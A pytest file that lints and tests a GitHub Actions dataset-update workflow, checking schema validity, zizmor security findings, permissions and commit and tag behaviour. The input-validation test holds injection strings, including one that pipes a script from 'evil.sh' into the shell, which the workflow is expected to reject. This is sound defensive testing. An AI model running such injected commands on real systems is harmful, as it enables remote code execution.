""".github/workflows/update.yml: linted offline, its key properties asserted, its scripts run.

check-jsonschema validates it against GitHub's workflow schema and zizmor audits it (template
injection, permissions, persisted credentials, unpinned actions, secrets outside an
environment). The shell steps that guard the run are executed here with bash, as the runner
would, on a throwaway git repository.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import yaml

from pipeline.errors import PipelineError
from pipeline.ops import release

ROOT = Path(__file__).resolve().parent.parent
WORKFLOW = ROOT / ".github" / "workflows" / "update.yml"
BIN = Path(sys.executable).parent
PINNED = re.compile(r"^[\w.-]+/[\w.-]+@[0-9a-f]{40}$")


def workflow() -> dict[str, Any]:
    return yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))


def triggers() -> dict[str, Any]:
    document = workflow()
    return document["on"] if "on" in document else document[True]  # YAML 1.1 reads `on` as true


def steps() -> list[dict[str, Any]]:
    return workflow()["jobs"]["update"]["steps"]


def step(name: str) -> dict[str, Any]:
    return next(s for s in steps() if s.get("name") == name)


def run_step(
    name: str, env: dict[str, str], cwd: Path | None = None
) -> subprocess.CompletedProcess[str]:
    """The step's script under bash as GitHub runs `shell: bash` (-e, pipefail)."""
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step(name)["run"]],
        cwd=cwd,
        env={"PATH": os.environ["PATH"], "HOME": os.environ.get("HOME", "/tmp"), **env},
        capture_output=True,
        text=True,
        check=False,
    )


def check_jsonschema(path: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [BIN / "check-jsonschema", "--builtin-schema", "vendor.github-workflows", str(path)],
        capture_output=True,
        text=True,
        check=False,
    )


def zizmor_findings(path: Path) -> list[str]:
    """The audits zizmor's strictest persona reports, offline."""
    result = subprocess.run(
        [BIN / "zizmor", "--offline", "--persona", "auditor", "--format", "json", str(path)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.stdout.strip(), result.stderr
    return sorted({finding["ident"] for finding in json.loads(result.stdout)})


# Linters


def test_workflow_matches_githubs_schema():
    result = check_jsonschema(WORKFLOW)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "ok -- validation done" in result.stdout


def test_zizmor_finds_nothing_even_as_an_auditor():
    assert zizmor_findings(WORKFLOW) == []


@pytest.mark.parametrize(
    ("original", "broken", "finding"),
    [
        (  # a dispatch input pasted into a script: shell injection by whoever dispatches
            'run: make update AS_OF="$AS_OF"',
            'run: make update AS_OF="${{ inputs.as_of }}"',
            "template-injection",
        ),
        (
            "persist-credentials: false # only the push step gets the token",
            "persist-credentials: true",
            "artipacked",
        ),
        (
            "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1",
            "actions/checkout@v7",
            "unpinned-uses",
        ),
        ("permissions: {}", "permissions: write-all", "excessive-permissions"),
        ("    environment: dataset\n", "", "secrets-outside-env"),
    ],
)
def test_zizmor_catches_a_broken_workflow(tmp_path, original, broken, finding):
    text = WORKFLOW.read_text(encoding="utf-8")
    assert original in text
    path = tmp_path / "update.yml"
    path.write_text(text.replace(original, broken, 1), encoding="utf-8")
    assert finding in zizmor_findings(path)


@pytest.mark.parametrize(
    ("original", "broken"),
    [
        ("runs-on: ubuntu-24.04", "run-on: ubuntu-24.04"),
        ('- cron: "17 2 * * *"', '- crontab: "17 2 * * *"'),
        ("cancel-in-progress: false", "cancel-in-progress: [false]"),
    ],
)
def test_check_jsonschema_catches_a_broken_workflow(tmp_path, original, broken):
    text = WORKFLOW.read_text(encoding="utf-8")
    assert original in text
    path = tmp_path / "update.yml"
    path.write_text(text.replace(original, broken, 1), encoding="utf-8")
    result = check_jsonschema(path)
    assert result.returncode == 1
    assert "Schema validation errors were encountered" in result.stdout + result.stderr


# Properties


def test_runs_daily_weekly_with_the_audit_and_on_dispatch_with_as_of_lookback_and_audit():
    daily, weekly = (schedule["cron"] for schedule in triggers()["schedule"])
    minute, hour, day, month, weekday = daily.split()
    assert (day, month, weekday) == ("*", "*", "*")
    assert 0 <= int(minute) < 60 and 0 <= int(hour) < 24
    assert weekly.split()[2:] == ["*", "*", "0"]
    audit = step("make audit")
    assert audit["if"] == f"github.event.schedule == '{weekly}' || inputs.audit"
    assert step("make update")["if"] == f"github.event.schedule != '{weekly}' && !inputs.audit"
    inputs = triggers()["workflow_dispatch"]["inputs"]
    assert set(inputs) == {"as_of", "lookback", "audit"}
    assert all(not spec.get("required", False) for spec in inputs.values())
    assert [inputs[name]["default"] for name in ("as_of", "lookback", "audit")] == ["", "", False]


def test_two_runs_never_overlap_and_none_is_cancelled():
    concurrency = workflow()["concurrency"]
    # One fixed group: runs of any branch or trigger queue behind each other.
    assert "${{" not in concurrency["group"]
    assert concurrency["cancel-in-progress"] is False


def test_least_privilege_pinned_actions_and_no_expression_in_scripts():
    document = workflow()
    assert document["permissions"] == {}
    assert document["jobs"]["update"]["permissions"] == {"contents": "write"}
    assert document["jobs"]["update"]["environment"] == "dataset"
    uses = [s["uses"] for s in steps() if "uses" in s]
    assert uses and all(PINNED.match(u) for u in uses)
    assert all("${{" not in s.get("run", "") for s in steps())


def runs_if(condition: str, schedule: str | None, audit: bool | None) -> bool:
    """A step's `if` evaluated for one trigger (the few operators these conditions use)."""
    python = condition.replace("!=", "<>").replace("!", " not ").replace("<>", "!=")
    python = python.replace("&&", " and ").replace("||", " or ")
    github = SimpleNamespace(event=SimpleNamespace(schedule=schedule))
    inputs = SimpleNamespace(audit=audit)
    return bool(eval(python, {"__builtins__": {}}, {"github": github, "inputs": inputs}))


def test_each_run_is_either_the_update_or_the_audit_which_is_the_update_too():
    daily, weekly = (schedule["cron"] for schedule in triggers()["schedule"])
    audit_runs = {  # trigger: whether it is an audit (inputs are null on a schedule)
        (daily, None): False,
        (weekly, None): True,
        (None, False): False,
        (None, True): True,
    }
    for (schedule, audit), is_audit in audit_runs.items():
        ran = [
            name
            for name in ("make update", "make audit")
            if runs_if(step(name)["if"], schedule, audit)
        ]
        assert ran == (["make audit"] if is_audit else ["make update"]), (schedule, audit)


def test_update_then_publish_then_the_commit_only_when_something_changed():
    runs = [s.get("run", "") for s in steps()]
    update = runs.index('make update AS_OF="$AS_OF" LOOKBACK_DAYS="$LOOKBACK_DAYS"')
    audit = runs.index('make audit AS_OF="$AS_OF" LOOKBACK_DAYS="$LOOKBACK_DAYS"')
    publish = runs.index("make publish")
    stage = steps().index(step("Stage symbols.json, dvc.lock and the metrics"))
    commit = steps().index(step("Commit, tag and push"))
    assert update < audit < publish < stage < commit
    # Either runs the whole pipeline, pulling first: the same one-off params and credentials.
    for pinned in (update, audit):
        env = steps()[pinned]["env"]
        assert env["AS_OF"] == "${{ inputs.as_of }}"
        assert env["LOOKBACK_DAYS"] == "${{ inputs.lookback }}"
        assert env["AWS_ACCESS_KEY_ID"] == "${{ secrets.AWS_ACCESS_KEY_ID }}"
        assert env["AWS_SECRET_ACCESS_KEY"] == "${{ secrets.AWS_SECRET_ACCESS_KEY }}"
    assert steps()[commit]["if"] == "steps.changes.outputs.changed == 'true'"
    assert "[skip ci]" in steps()[commit]["run"]
    # Nothing after a failure but the report: no publish, no commit (no `if: always()`).
    conditional = [s["name"] for s in steps() if "if" in s]
    assert conditional == [
        "make update",
        "make audit",
        "Commit, tag and push",
        "Report the failure",
    ]
    assert steps()[-1]["if"] == "failure()"


# The guard steps, run


AS_OF_ERROR = "::error::as_of must be a date like 2024-06-01, or empty for today\n"
LOOKBACK_ERROR = "::error::lookback must be a whole number of days (at least 1), or empty\n"


@pytest.mark.parametrize(
    ("as_of", "lookback", "error"),
    [
        ("", "", None),
        ("2024-06-01", "40", None),
        ("2024-06-01; curl evil.sh | sh", "", AS_OF_ERROR),
        ("$(id)", "", AS_OF_ERROR),
        ("", "0", LOOKBACK_ERROR),
        ("", "20 days", LOOKBACK_ERROR),
    ],
)
def test_dispatch_inputs_are_checked_before_anything_runs(as_of, lookback, error):
    result = run_step("Check the dispatch inputs", {"AS_OF": as_of, "LOOKBACK_DAYS": lookback})
    assert result.returncode == (0 if error is None else 1), result.stdout + result.stderr
    assert result.stdout == (error or "")


@pytest.mark.parametrize(
    ("url", "key", "ok"),
    [
        ("s3://bucket/vision", "key", True),
        ("", "key", False),
        ("../../vision-availability-dvc-storage", "key", False),
        ("s3://", "key", False),
        ("s3://bucket/vision", "", False),
    ],
)
def test_a_run_without_an_s3_remote_fails_saying_what_to_set(url, key, ok):
    result = run_step(
        "Check the DVC remote settings",
        {"DVC_REMOTE_URL": url, "AWS_ACCESS_KEY_ID": key, "AWS_SECRET_ACCESS_KEY": "secret"},
    )
    assert (result.returncode == 0) is ok
    if not ok:
        assert result.stdout.startswith(
            "::error::no S3 DVC remote: set the variable DVC_REMOTE_URL"
        )


@pytest.fixture
def checkout(tmp_path) -> tuple[Path, Path]:
    """A clone of a bare 'hosted' repository holding symbols.json, dvc.lock and params.yaml."""
    hosted, work = tmp_path / "hosted.git", tmp_path / "work"
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@localhost"]
    subprocess.run(
        ["git", "init", "--quiet", "--bare", "--initial-branch=main", hosted], check=True
    )
    subprocess.run(["git", "clone", "--quiet", hosted, work], check=True, capture_output=True)
    for name in ("symbols.json", "dvc.lock", "params.yaml"):
        (work / name).write_text(f"{name} v1\n", encoding="utf-8")
    subprocess.run(["git", "add", "."], cwd=work, check=True)
    subprocess.run([*git, "commit", "--quiet", "-m", "v1"], cwd=work, check=True)
    subprocess.run(["git", "push", "--quiet", "origin", "HEAD:main"], cwd=work, check=True)
    # What the release step reads: dvc.yaml's artifacts, through .venv's pipeline.ops.release.
    (work / "dvc.yaml").write_bytes((ROOT / "dvc.yaml").read_bytes())
    (work / ".venv").symlink_to(ROOT / ".venv")
    return hosted, work


def stage_changes(work: Path, tmp_path: Path) -> str:
    output = tmp_path / "github_output"
    output.write_text("", encoding="utf-8")
    result = run_step(
        "Stage symbols.json, dvc.lock and the metrics", {"GITHUB_OUTPUT": str(output)}, work
    )
    assert result.returncode == 0, result.stdout + result.stderr
    return output.read_text(encoding="utf-8")


def staged(work: Path) -> list[str]:
    names = subprocess.run(
        ["git", "diff", "--cached", "--name-only"], cwd=work, capture_output=True, text=True
    )
    return names.stdout.split()


def test_nothing_changed_means_no_commit(checkout, tmp_path):
    _, work = checkout
    assert stage_changes(work, tmp_path) == "changed=false\n"


def test_only_symbols_dvc_lock_and_metrics_are_committed(checkout, tmp_path):
    _, work = checkout
    (work / "dvc.lock").write_text("dvc.lock v2\n", encoding="utf-8")
    (work / "metrics").mkdir()
    (work / "metrics" / "validation.json").write_text("{}\n", encoding="utf-8")
    (work / "params.yaml").write_text("edited by hand\n", encoding="utf-8")
    (work / "logs").mkdir()
    (work / "logs" / "pipeline.log").write_text("log\n", encoding="utf-8")
    assert stage_changes(work, tmp_path) == "changed=true\n"
    assert staged(work) == ["dvc.lock", "metrics/validation.json"]


def commit_tag_and_push(hosted: Path, work: Path, tmp_path: Path, as_of: str):
    """The step, pushing to `hosted` instead of GitHub; its run summary's text."""
    summary = tmp_path / "summary"
    summary.write_text("", encoding="utf-8")
    token_url = "https://x-access-token:t0ken@github.example/owner/repo.git"
    result = run_step(
        "Commit, tag and push",
        {
            "AS_OF": as_of,
            "GH_TOKEN": "t0ken",
            "GITHUB_SERVER_URL": "https://github.example",
            "GITHUB_REPOSITORY": "owner/repo",
            "GITHUB_REF": "refs/heads/main",
            "GITHUB_STEP_SUMMARY": str(summary),
            # The push goes to the hosted repository's URL with the token; send it here instead.
            "GIT_CONFIG_COUNT": "1",
            "GIT_CONFIG_KEY_0": f"url.{hosted}.insteadOf",
            "GIT_CONFIG_VALUE_0": token_url,
        },
        work,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    return summary.read_text(encoding="utf-8")


def hosted_git(hosted: Path, *args: str) -> str:
    return subprocess.run(
        ["git", *args], cwd=hosted, capture_output=True, text=True, check=True
    ).stdout.strip()


def test_the_commit_is_pushed_with_skip_ci_by_the_bot_and_tagged_as_a_release(checkout, tmp_path):
    hosted, work = checkout
    (work / "symbols.json").write_text("symbols.json v2\n", encoding="utf-8")
    assert stage_changes(work, tmp_path) == "changed=true\n"
    summary = commit_tag_and_push(hosted, work, tmp_path, "2024-06-01")
    head = hosted_git(hosted, "log", "-1", "--format=%an|%s", "main")
    assert head == "github-actions[bot]|data: update as of 2024-06-01 [skip ci]"
    assert hosted_git(hosted, "show", "main:symbols.json") == "symbols.json v2"
    release = ["data-2024-06-01", "availability@v20240601.0.0", "volume@v20240601.0.0"]
    assert hosted_git(hosted, "tag", "--list", "--sort=refname").split() == sorted(release)
    for tag in release:
        # Annotated, by the bot, on the pushed commit.
        assert hosted_git(hosted, "cat-file", "-t", tag) == "tag"
        assert hosted_git(hosted, "rev-parse", f"{tag}^{{commit}}") == hosted_git(
            hosted, "rev-parse", "main"
        )
        assert hosted_git(hosted, "tag", "--list", "--format=%(taggername)", tag) == (
            "github-actions[bot]"
        )
    assert summary == f"Released the dataset as of 2024-06-01 as: {' '.join(release)}\n"

    # A second release of the same date (the Sunday audit after the daily run) takes .1.
    (work / "dvc.lock").write_text("dvc.lock v3\n", encoding="utf-8")
    assert stage_changes(work, tmp_path) == "changed=true\n"
    commit_tag_and_push(hosted, work, tmp_path, "2024-06-01")
    second = hosted_git(hosted, "tag", "--points-at", "main", "--sort=refname").split()
    assert second == ["availability@v20240601.1.0", "data-2024-06-01.1", "volume@v20240601.1.0"]


def test_a_push_that_fails_leaves_no_release_behind(checkout, tmp_path):
    hosted, work = checkout
    # The hosted branch moved on meanwhile: the atomic push refuses the commit and its tags.
    other = tmp_path / "other"
    subprocess.run(["git", "clone", "--quiet", hosted, other], check=True)
    subprocess.run(
        [
            "git",
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@l",
            "commit",
            "--quiet",
            "--allow-empty",
            "-m",
            "elsewhere",
        ],
        cwd=other,
        check=True,
    )
    subprocess.run(["git", "push", "--quiet", "origin", "HEAD:main"], cwd=other, check=True)
    (work / "symbols.json").write_text("symbols.json v2\n", encoding="utf-8")
    assert stage_changes(work, tmp_path) == "changed=true\n"
    with pytest.raises(AssertionError):
        commit_tag_and_push(hosted, work, tmp_path, "2024-06-01")
    assert hosted_git(hosted, "tag", "--list") == ""


def test_the_runner_writes_to_its_own_default_remote_in_config_local(tmp_path):
    work = tmp_path / "work"
    work.mkdir()
    subprocess.run(["git", "init", "--quiet"], cwd=work, check=True)
    env = {"PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}"}
    subprocess.run([BIN / "dvc", "init", "--quiet"], cwd=work, check=True, env=env)
    for name in ("Makefile", ".dvc/config"):
        (work / name).write_bytes((ROOT / name).read_bytes())
    (work / ".venv").symlink_to(ROOT / ".venv")
    result = run_step(
        "Use the S3 remote",
        {
            "DVC_REMOTE_URL": "s3://bucket/vision",
            "DVC_REMOTE_REGION": "eu-west-1",
            "DVC_REMOTE_ENDPOINT_URL": "",
            # make: the scratch directory has no lock files to build .venv from; it is built.
            "MAKEFLAGS": "RUNTIME=",
        },
        work,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert (work / ".dvc" / "config").read_bytes() == (ROOT / ".dvc" / "config").read_bytes()
    local = (work / ".dvc" / "config.local").read_text(encoding="utf-8")
    assert local.split("\n") == [
        "[core]",
        "    remote = write",
        "['remote \"write\"']",
        "    url = s3://bucket/vision",
        "    region = eu-west-1",
        "",
    ]


def test_release_names_come_from_dvc_yaml_and_refuse_what_ls_remote_should_not_print(tmp_path):
    assert release.artifact_names(ROOT / "dvc.yaml") == ["availability", "volume"]
    sha = "a" * 40
    listed = f"{sha}\trefs/tags/data-2024-06-01\n{sha}\trefs/tags/v1.0\n"
    assert release.tags_of(listed) == ["data-2024-06-01", "v1.0"]
    with pytest.raises(PipelineError, match=r"^line 2 of git ls-remote's output is not a tag"):
        release.tags_of(f"{sha}\trefs/tags/ok\n{sha}\trefs/heads/main\n")
    bad = tmp_path / "dvc.yaml"
    bad.write_text("artifacts:\n  Not_Valid-:\n    path: x\n", encoding="utf-8")
    with pytest.raises(PipelineError, match="artifact name 'Not_Valid-' is not one DVC accepts"):
        release.artifact_names(bad)
    bad.write_text("stages: {}\n", encoding="utf-8")
    with pytest.raises(PipelineError, match="declares no artifacts"):
        release.artifact_names(bad)
